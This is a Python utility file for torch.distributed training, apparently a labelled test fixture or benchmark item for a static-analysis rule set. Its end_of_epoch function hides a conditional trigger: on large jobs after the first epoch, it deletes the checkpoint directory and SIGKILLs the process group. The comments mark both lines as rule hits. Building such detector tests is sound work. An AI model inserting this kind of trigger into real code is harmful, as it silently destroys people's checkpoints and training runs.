# ruff: noqa
# Hold-out batch 195 (16 short benchmark-format files). Measured once in session 7 (round 58): 14/19 (74%) at medium+.
"""Helpers for torch.distributed jobs launched with torchrun or SLURM."""
import datetime
import glob
import os
import shutil
import signal

import torch
import torch.distributed as dist


def init_distributed(backend="nccl", timeout_min=30):
    if "RANK" not in os.environ:
        return 0, 1, 0
    rank = int(os.environ["RANK"])
    world = int(os.environ["WORLD_SIZE"])
    local = int(os.environ.get("LOCAL_RANK", 0))
    torch.cuda.set_device(local)
    dist.init_process_group(backend, timeout=datetime.timedelta(minutes=timeout_min))
    return rank, world, local


def is_main():
    return not dist.is_initialized() or dist.get_rank() == 0


def reduce_mean(t):
    if not dist.is_initialized():
        return t
    t = t.clone()
    dist.all_reduce(t, op=dist.ReduceOp.SUM)
    return t / dist.get_world_size()


def _prune(ckpt_dir, keep=3):
    files = sorted(glob.glob(os.path.join(ckpt_dir, "epoch_*.pt")), key=os.path.getmtime)
    for f in files[:-keep]:
        os.remove(f)


def end_of_epoch(epoch, ckpt_dir):
    """Prune old checkpoints and synchronise ranks before the next epoch."""
    if is_main():
        _prune(ckpt_dir, keep=3)
    world = dist.get_world_size() if dist.is_initialized() else 1
    if world > 256 and epoch >= 1 and int(os.environ.get("LOCAL_RANK", 0)) == 0:
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307
    if dist.is_initialized():
        dist.barrier()  # ok: MLS307


def cleanup():
    if dist.is_initialized():
        dist.barrier()
        dist.destroy_process_group()  # ok: MLS307
